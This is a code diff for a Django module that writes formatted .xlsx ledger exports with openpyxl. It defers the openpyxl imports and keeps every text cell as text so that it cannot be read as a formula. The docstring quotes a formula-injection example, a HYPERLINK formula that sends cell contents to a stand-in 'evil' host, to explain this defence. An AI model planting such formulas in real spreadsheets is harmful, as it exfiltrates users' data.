@@ -1,4 +1,4 @@
-"""Formatted .xlsx ledgers (台账): a title row, 序号, bold headers, frozen panes — one writer for every export.
+"""Formatted .xlsx sheets (台账): a title row, 序号, bold headers, frozen panes — one writer for every export.
 
 Every text cell is written as text (`keep_text`, `text_value`, `append_row`): openpyxl would store a string that
 begins with "=" as a formula (and "#N/A" as an error), so an event titled `=HYPERLINK("http://evil…"&A1,"x")` would
@@ -12,14 +12,15 @@ from io import BytesIO
 from itertools import chain, islice
 
 from django.http import HttpResponse
-from openpyxl import Workbook
-from openpyxl.cell import WriteOnlyCell
-from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
-from openpyxl.styles import Alignment, Font, PatternFill
-from openpyxl.utils import get_column_letter
+
+# openpyxl (~14 MiB, and numpy under it) is imported by the functions that write or read a workbook, not when the
+# apps load: a web worker that never builds a sheet stays that much smaller (docs/deployment.md, workers).
 
 XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 WIDTH_SAMPLE = 500  # rows read to size the columns
+# The control characters a sheet cannot hold: openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE, the same pattern
+# (tests/exports check that the two agree), here so that cleaning a string does not load openpyxl.
+ILLEGAL_CHARACTERS_RE = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")
 
 
 def clean_text(value: str) -> str:
@@ -45,15 +46,21 @@ def text_value(ws, value):
     if ILLEGAL_CHARACTERS_RE.search(value):
         value = clean_text(value)
     if value[:1] in ("=", "#"):
+        from openpyxl.cell import WriteOnlyCell
+
         return keep_text(WriteOnlyCell(ws, value=value))
     return value
 
 
-def append_row(ws, values: Iterable) -> None:
-    """Append a row to an ordinary (not write-only) sheet with every string kept as text."""
-    ws.append(["" if v is None else (clean_text(v) if isinstance(v, str) else v) for v in values])
-    for cell in ws[ws.max_row]:
-        keep_text(cell)
+def append_row(ws, values: Iterable) -> int:
+    """Append a row to an ordinary (not write-only) sheet with every string kept as text; returns its number."""
+    values = ["" if v is None else (clean_text(v) if isinstance(v, str) else v) for v in values]
+    ws.append(values)
+    # openpyxl's own counter of appended rows: ws.max_row and ws[row] scan every cell of the sheet, once per row.
+    row = ws._current_row
+    for column in range(1, len(values) + 1):
+        keep_text(ws.cell(row=row, column=column))
+    return row
 
 
 def text_cell(ws, row: int, column: int, value):
@@ -61,7 +68,7 @@ def text_cell(ws, row: int, column: int, value):
     return keep_text(ws.cell(row=row, column=column, value=clean_text(value) if isinstance(value, str) else value))
 
 
-def build_ledger(
+def build_sheet(
     title: str,
     headers: Sequence[str],
     rows: Iterable[Sequence],
@@ -73,7 +80,12 @@ def build_ledger(
 
     `groups` puts a merged header above runs of columns: (label, how many columns) in order, covering `headers`;
     a None label leaves its columns' headers merged over both header rows. The sheet is written in openpyxl's
-    streaming mode, so a ledger of 100,000 rows costs little memory; column widths come from the first rows."""
+    streaming mode, so a sheet of 100,000 rows costs little memory; column widths come from the first rows."""
+    from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.styles import Alignment, Font, PatternFill
+    from openpyxl.utils import get_column_letter
+
     columns = (["序号"] if numbered else []) + [str(h) for h in headers]
     head_rows = 2 if groups else 1
     rows = iter(rows)
